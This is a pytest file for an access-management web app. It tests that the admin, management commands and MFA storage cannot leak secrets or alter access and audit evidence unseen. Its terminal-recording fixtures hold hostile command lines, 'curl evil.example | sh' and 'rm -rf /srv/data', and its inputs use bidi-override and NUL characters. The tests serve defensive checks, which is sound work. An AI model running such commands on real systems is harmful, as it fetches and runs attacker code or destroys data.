"""Side doors around the services: the admin, management commands and second factors must not change
access, evidence or secrets unseen (found by a review of everything that is not the main pages)."""

from __future__ import annotations

import json
import re
from typing import Any

import pytest
from allauth.mfa.totp.internal.auth import TOTP, generate_totp_secret
from django.core.management import call_command
from django.core.management.base import CommandError
from django.test import Client

from accounts.authentication import hash_token
from accounts.models import ApiToken, AwsAccount, Membership, SamlIdentity, User
from audit.models import LogbookEntry
from requests_app.models import AccessRequest, RequestStatus
from terminal import services as terminal_services
from tests.accounts.test_cli_tokens import issue
from tests.audit.admin_forms import form_data, superuser_client
from tests.conftest import World
from tests.terminal.test_live_permissions import _grant

pytestmark = pytest.mark.django_db


def test_a_totp_secret_is_sealed_at_rest_and_on_no_admin_page(world: World) -> None:
    from allauth.mfa.models import Authenticator

    secret = generate_totp_secret()
    authenticator = TOTP.activate(world.requester, secret).instance
    stored = Authenticator.objects.get(pk=authenticator.pk).data["secret"]
    assert secret not in stored and stored.startswith("passport-sealed:v1:")
    # Still the person's second factor: a code made from the secret is accepted.
    from allauth.mfa.totp.internal.auth import format_hotp_value, hotp_value, yield_hotp_counters_from_time

    code = format_hotp_value(hotp_value(secret, next(yield_hotp_counters_from_time())))
    assert TOTP(Authenticator.objects.get(pk=authenticator.pk)).validate_code(code)

    client, _ = superuser_client()
    for url in (f"/admin/mfa/authenticator/{authenticator.pk}/change/", "/admin/mfa/authenticator/"):
        page = client.get(url)
        assert page.status_code == 200
        body = page.content.decode()
        assert secret not in body and "passport-sealed" not in body and world.requester.username in body
    # Seen and deleted (to reset a lost one), never edited.
    data = {"user": world.requester.pk, "type": "totp", "data": "{}"}
    client.post(f"/admin/mfa/authenticator/{authenticator.pk}/change/", data)
    assert Authenticator.objects.get(pk=authenticator.pk).data["secret"] == stored


def test_secrets_stored_before_sealing_are_sealed_by_the_migration_and_still_read(world: World) -> None:
    from importlib import import_module

    from allauth.mfa.models import Authenticator
    from django.apps import apps

    from accounts.mfa import open_mfa_secret

    secret = generate_totp_secret()
    plain = Authenticator.objects.create(user=world.requester, type="totp", data={"secret": secret})
    assert TOTP(plain).instance.data["secret"] == secret  # read as it is until sealed
    import_module("accounts.migrations.0010_seal_mfa_secrets").seal_existing(apps, None)
    sealed = Authenticator.objects.get(pk=plain.pk).data["secret"]
    assert sealed != secret and open_mfa_secret(sealed) == secret


def test_the_api_token_list_is_no_oracle_for_token_hashes(world: World) -> None:
    """README: the hash is never shown. ``?token_hash__startswith=`` would read it out one digit at a time."""
    client, _ = superuser_client()
    client.raise_request_exception = False
    token_hash = hash_token(issue(world.requester))
    for lookup in ("token_hash__startswith", "token_hash", "token_hash__regex", "token_hash__gt"):
        assert client.get("/admin/accounts/apitoken/", {lookup: token_hash[:1]}).status_code == 400, lookup
    listed = client.get("/admin/accounts/apitoken/", {"name__startswith": "passport"})
    assert listed.status_code == 200 and "passport CLI laptop" in listed.content.decode()


@pytest.mark.parametrize(
    ("changelist", "lookups", "filtered"),
    [
        ("/admin/mfa/authenticator/", ["data__secret__startswith", "data__contains"], {"type__exact": "totp"}),
        ("/admin/accounts/user/", ["password__startswith", "password__regex"], {"is_active__exact": "1"}),
        ("/admin/accounts/apitoken/", ["token_hash__startswith"], {"name__startswith": "passport"}),
    ],
    ids=["second-factors", "people", "cli-tokens"],
)
def test_no_admin_list_filters_by_a_secret_field(
    world: World, changelist: str, lookups: list[str], filtered: dict[str, str]
) -> None:
    """A second factor's sealed data, a password hash: as for the tokens' hashes, each admin list refuses
    a lookup on them (audit.admin_trail.lookups), while its own filters work."""
    TOTP.activate(world.requester, generate_totp_secret())
    issue(world.requester)
    client, _ = superuser_client()
    client.raise_request_exception = False
    for lookup in lookups:
        assert client.get(changelist, {lookup: "p"}).status_code == 400, lookup
    listed = client.get(changelist, filtered)
    assert listed.status_code == 200 and "alice" in listed.content.decode()


def test_the_admin_refuses_a_role_arn_or_principal_in_another_account(world: World) -> None:
    client, _ = superuser_client()
    url = f"/admin/accounts/awsaccount/{world.prod.pk}/change/"
    before = world.prod.role_arn
    response = client.post(url, form_data(client, url, role_arn="arn:aws:iam::999999999999:role/OtherAccountRole"))
    assert response.status_code == 200 and "The role must be in this account." in response.content.decode()
    world.prod.refresh_from_db()
    assert world.prod.role_arn == before

    data = form_data(client, url)
    membership = Membership.objects.get(user=world.requester, account=world.prod)
    index = next(
        name.split("-")[1]
        for name, value in data.items()
        if re.fullmatch(r"memberships-\d+-id", name) and value == [str(membership.pk)]
    )
    data[f"memberships-{index}-principal_arn"] = ["arn:aws:iam::999999999999:role/Elsewhere"]
    response = client.post(url, data)
    assert response.status_code == 200
    assert "The principal must be in this membership&#x27;s account." in response.content.decode()
    assert Membership.objects.get(pk=membership.pk).principal_arn != "arn:aws:iam::999999999999:role/Elsewhere"


def _sealed_chunked(world: World, lines: list[bytes]) -> Any:
    import hashlib
    import uuid

    from django.utils import timezone

    from terminal.models import RecordingChunk, RecordingState, TerminalSession
    from terminal.recorder import recording_kept
    from terminal.storage import object_put
    from tests.terminal.test_consumers import make_active_grant

    grant = make_active_grant(world)
    prefix = f"recordings/{uuid.uuid4()}"
    header = b'{"version": 2, "width": 80, "height": 24}\n'
    chunks = [header + lines[0], *lines[1:]]
    session = TerminalSession.objects.create(
        user=world.requester, grant=grant, recording_path=prefix, ended_at=timezone.now(),
        recording_state=RecordingState.COMPLETE,
        recording_sha256=hashlib.sha256(b"".join(chunks)).hexdigest(),
    )  # fmt: skip
    for number, data in enumerate(chunks, start=1):
        key = f"{prefix}/{number:06d}.cast"
        object_put(key, data)
        RecordingChunk.objects.create(
            session=session, number=number, key=key, sha256=hashlib.sha256(data).hexdigest(), size=len(data),
            seconds=float(number),
        )  # fmt: skip
    transcript = recording_kept(session).transcript
    TerminalSession.objects.filter(pk=session.pk).update(
        transcript=transcript.output, transcript_input=transcript.input, transcript_index=transcript.index
    )
    session.refresh_from_db()
    return session


def test_terminal_transcripts_never_shortens_a_sealed_transcript(world: World, settings: Any, tmp_path: Any) -> None:
    from terminal.models import RecordingChunk
    from terminal.storage import recording_storage

    settings.MEDIA_ROOT = tmp_path / "media"
    session = _sealed_chunked(
        world,
        [b'[1.0, "o", "$ id\\r\\n"]\n', b'[2.0, "i", "curl evil.example | sh\\r"]\n', b'[3.0, "o", "pwned\\r\\n"]\n'],
    )
    assert "pwned" in session.transcript and "curl evil.example" in session.transcript_input
    # A restore that lost chunk 2 (or anyone with write access to the bucket deleting it):
    recording_storage().delete(RecordingChunk.objects.get(session=session, number=2).key)
    # Said on stderr and by the exit status, as migrate_recordings does: a cron job or a restore
    # runbook must not read success.
    with pytest.raises(CommandError, match=r"^1 recording\(s\) could not be indexed"):
        call_command("terminal_transcripts", "--all")
    session.refresh_from_db()
    assert not LogbookEntry.objects.filter(action="recording.reindexed").exists()
    assert "curl evil.example" in session.transcript_input and "pwned" in session.transcript, (
        f"the searchable record of what was typed is now {session.transcript_input!r}, printed {session.transcript!r}"
    )


def test_terminal_transcripts_never_indexes_a_legacy_file_that_fails_its_digest(
    world: World, settings: Any, tmp_path: Any
) -> None:
    from tests.terminal.test_consumers import make_active_grant
    from tests.terminal.test_recordings import record

    settings.MEDIA_ROOT = tmp_path / "media"
    session = record(world.requester, make_active_grant(world), [("i", "rm -rf /srv/data\r"), ("o", "done\r\n")])
    assert "rm -rf /srv/data" in session.transcript_input
    path = terminal_services.recording_absolute_path(session.recording_path)
    path.write_bytes(b'{"version": 2, "width": 80, "height": 24}\n[0.5, "i", "ls\\r"]\n[0.6, "o", "README\\r\\n"]\n')
    with pytest.raises(CommandError, match=r"^1 recording\(s\) could not be indexed"):
        call_command("terminal_transcripts", "--all")
    session.refresh_from_db()
    assert "rm -rf /srv/data" in session.transcript_input, f"transcript_input is now {session.transcript_input!r}"
    assert not LogbookEntry.objects.filter(action="recording.reindexed").exists()


def test_terminal_transcripts_reindexes_a_whole_recording_on_record(world: World, settings: Any, tmp_path: Any) -> None:
    from terminal.models import TerminalSession

    settings.MEDIA_ROOT = tmp_path / "media"
    session = _sealed_chunked(world, [b'[1.0, "o", "$ id\\r\\n"]\n', b'[2.0, "i", "uptime\\r"]\n'])
    TerminalSession.objects.filter(pk=session.pk).update(transcript="", transcript_input="")
    call_command("terminal_transcripts")
    session.refresh_from_db()
    assert "uptime" in session.transcript_input
    reindexed = LogbookEntry.objects.get(action="recording.reindexed")
    assert reindexed.detail["terminal_session"] == session.pk


def test_the_admin_gives_no_local_password_to_a_person_who_signs_in_through_an_idp(world: World) -> None:
    from accounts.models import SamlIdentity

    sam = User.objects.create(username="sam", email="sam@support.example", identity_store="internal")
    sam.set_unusable_password()
    sam.save()
    SamlIdentity.objects.create(user=sam, identity_store="internal", name_id="sam@support.example", idp_slug="support")
    Membership.objects.create(user=sam, account=world.prod, role="admin", source=Membership.Source.SAML)

    client, _ = superuser_client()
    response = client.post(
        f"/admin/accounts/user/{sam.pk}/password/",
        {"password1": "Helpdesk-Reset-2026", "password2": "Helpdesk-Reset-2026", "usable_password": "true"},
        follow=True,
    )
    assert "signs in through their identity provider and gets no password in Passport" in response.content.decode()
    sam.refresh_from_db()
    assert not sam.has_usable_password()
    # A password set anyway (`manage.py changepassword`) signs nobody in: the IdP says who sam is.
    sam.set_password("Helpdesk-Reset-2026")
    sam.save()
    signed_in = Client().post("/accounts/login/", {"login": "sam", "password": "Helpdesk-Reset-2026"})
    assert signed_in.status_code == 200 and "_auth_user_id" not in Client().session
    assert "not correct" in signed_in.content.decode()


def _manifest(world: World, tmp_path: Any, role_arn: str = "") -> Any:
    manifest = tmp_path / "manifest.json"
    account = {"id": world.prod.account_id, "name": "Demo", "regions": ["us-east-1"],
               "role_arn": role_arn or f"arn:aws:iam::{world.prod.account_id}:role/Demo"}  # fmt: skip
    manifest.write_text(json.dumps({"accounts": [account]}))
    return manifest


def test_load_demo_refuses_a_production_database(world: World, settings: Any, tmp_path: Any) -> None:
    settings.PRODUCTION = True
    role_arn, before = world.prod.role_arn, LogbookEntry.objects.count()
    with pytest.raises(CommandError, match="PASSPORT_ENV is production"):
        call_command("load_demo", "--manifest", str(_manifest(world, tmp_path)), "--no-sync")
    world.prod.refresh_from_db()
    assert world.prod.role_arn == role_arn and not User.objects.filter(username="admin").exists()
    assert LogbookEntry.objects.count() == before


@pytest.mark.parametrize(
    ("manifest", "said"),
    [
        ("{}", 'The manifest must be a JSON object with "accounts"'),
        ("[]", 'The manifest must be a JSON object with "accounts"'),
        ('{"accounts": ["123456789012"]}', "Account 1 of the manifest is not an object"),
        ('{"accounts": [{"id": "1"}]}', "Account 1 of the manifest has no name, role_arn, regions"),
        (
            '{"accounts": [{"id": "x", "name": "n", "role_arn": "r", "regions": "eu"}]}',
            "Account 1 of the manifest ('x'): regions must be a list",
        ),
        (
            '{"accounts": [{"id": "x", "name": "n", "role_arn": "r", "regions": ["eu-west-1"]}]}',
            "Account 1 of the manifest ('x') is not valid: account_id:",
        ),
        ('{"accounts": [], "principals": {"alice": "arn"}}', 'The manifest\'s "principals" must map'),
        # What PostgreSQL cannot take (NUL) was a DataError traceback: the id was looked up before it was checked.
        (
            '{"accounts": [{"id": "1111\\u00001111111", "name": "n", "role_arn": "arn:aws:iam::111111111111:role/x", '
            '"regions": ["eu-west-1"]}]}',
            "is not valid: account_id: An AWS account id is exactly 12 digits.",
        ),
        (
            '{"accounts": [{"id": "555566667777", "name": "n\\u0000", "role_arn": "arn:aws:iam::555566667777:role/x", '
            '"regions": ["eu-west-1"]}]}',
            "is not valid: name: The name contains control or direction-changing characters (U+0000)",
        ),
        (
            '{"accounts": [{"id": "555566667777", "name": "n", "role_arn": "arn:aws:iam::555566667777:role/x", '
            '"regions": ["eu\\u0000"]}]}',
            "is not valid: regions: Enter a JSON list of AWS region names",
        ),
        (
            '{"accounts": [{"id": "555566667777", "name": "n", "role_arn": "arn:aws:iam::555566667777:role/x", '
            '"regions": ["Frankfurt"]}]}',
            "is not valid: regions: Enter a JSON list of AWS region names",
        ),
        (
            '{"accounts": [{"id": "555566667777", "name": "n", "role_arn": "arn:aws:iam::555566667777:role/x", '
            '"regions": ["eu-west-1"]}], "principals": {"alice": {"555566667777": '
            '"arn:aws:iam::555566667777:user/al\\u0000ice"}}}',
            "The principal ARN of 'alice' on '555566667777' is not valid: Enter an IAM principal ARN.",
        ),
        # Python's "$" also matches before a final newline: these were stored with it.
        (
            '{"accounts": [{"id": "555566667777", "name": "n", "role_arn": "arn:aws:iam::555566667777:role/x", '
            '"regions": ["eu-west-1"]}], "principals": {"alice": {"555566667777": '
            '"arn:aws:iam::555566667777:user/alice\\n"}}}',
            "The principal ARN of 'alice' on '555566667777' is not valid: Enter an IAM principal ARN.",
        ),
        (
            '{"accounts": [{"id": "555566667777", "name": "n", "role_arn": "arn:aws:iam::555566667777:role/x\\n", '
            '"regions": ["eu-west-1"]}]}',
            "is not valid: role_arn: Enter an IAM role ARN",
        ),
    ],
    ids=[
        "no-accounts",
        "a-list",
        "account-not-object",
        "account-without-name",
        "regions-string",
        "invalid-id",
        "principals",
        "nul-in-the-id",
        "nul-in-the-name",
        "nul-in-a-region",
        "not-a-region",
        "nul-in-a-principal",
        "newline-after-a-principal",
        "newline-after-the-role",
    ],
)
def test_load_demo_refuses_a_wrong_manifest_by_its_entry(world: World, tmp_path: Any, manifest: str, said: str) -> None:
    """A manifest of the wrong shape was a KeyError or TypeError traceback, and an account with id "x",
    role "r" and regions "eu" (a string) was stored: the model's validators never ran."""
    path = tmp_path / "manifest.json"
    path.write_text(manifest)
    before = LogbookEntry.objects.count()
    with pytest.raises(CommandError) as refused:
        call_command("load_demo", "--manifest", str(path), "--no-sync")
    assert said in str(refused.value)
    assert not AwsAccount.objects.filter(account_id="x").exists()
    assert not AwsAccount.objects.filter(account_id="555566667777").exists()
    assert not User.objects.filter(username="admin").exists() and LogbookEntry.objects.count() == before


def test_load_demo_is_on_record_and_a_role_it_lowers_ends_live_access(world: World, tmp_path: Any) -> None:
    # oscar, made an Admin on prod, has live access; the demo's oscar is an Observer.
    Membership.objects.filter(user=world.observer, account=world.prod).update(role=Membership.Role.ADMIN)
    grant = _grant(world, world.web, requester=world.observer)
    # The account's role as it is: no role changes while a grant there has a user to remove.
    manifest = _manifest(world, tmp_path, role_arn=world.prod.role_arn)
    call_command("load_demo", "--manifest", str(manifest), "--no-sync")
    assert Membership.objects.get(user=world.observer, account=world.prod).role == Membership.Role.OBSERVER
    assert AccessRequest.objects.get(pk=grant.request_id).status != RequestStatus.ACTIVE
    assert LogbookEntry.objects.filter(request_id=grant.request_id, action="request.revoked").exists()
    loaded = LogbookEntry.objects.get(action="demo.loaded")
    assert loaded.detail["accounts"] == [world.prod.account_id] and "admin" in loaded.detail["people"]


def test_the_admin_refuses_an_account_name_with_hidden_or_reordering_characters(world: World) -> None:
    client, _ = superuser_client()
    url = f"/admin/accounts/awsaccount/{world.prod.pk}/change/"
    before = world.prod.name
    response = client.post(url, form_data(client, url, name="Production\u202e 111111111111"))
    assert response.status_code == 200 and "U+202E" in response.content.decode()
    world.prod.refresh_from_db()
    assert world.prod.name == before


def test_the_admin_shows_a_cli_sign_ins_name_and_a_saml_name_id_made_visible(world: World) -> None:
    """A token's name from before names were checked, a NameID as the IdP sent it: their bidi
    overrides are escapes on the lists and pages (core.admin_display, as the terminal's admin)."""
    token = ApiToken.objects.get(token_hash=hash_token(issue(world.requester, name="alice-laptop \u202e(devres-fles)")))
    link = SamlIdentity.objects.create(
        user=world.requester,
        identity_store="customer",
        name_id="alice@corp.example\u202emoc.live@",
        idp_slug="customer",
    )
    client, _ = superuser_client()
    pages = {
        "/admin/accounts/apitoken/": "alice-laptop \\u202e(devres-fles)",
        f"/admin/accounts/apitoken/{token.pk}/change/": "alice-laptop \\u202e(devres-fles)",
        "/admin/accounts/samlidentity/": "alice@corp.example\\u202emoc.live@",
        f"/admin/accounts/samlidentity/{link.pk}/delete/": "customer:alice@corp.example\\u202emoc.live@",
    }
    for url, shown in pages.items():
        page = client.get(url)
        assert page.status_code == 200, url
        assert "\u202e" not in page.content.decode() and shown in page.content.decode(), url
    # Each row still links to its page from that column, and the list still sorts by it.
    for changelist, pk in (("/admin/accounts/apitoken/", token.pk), ("/admin/accounts/samlidentity/", link.pk)):
        listing = client.get(changelist, {"o": "1"})
        assert listing.status_code == 200 and f'href="{changelist}{pk}/change/' in listing.content.decode()
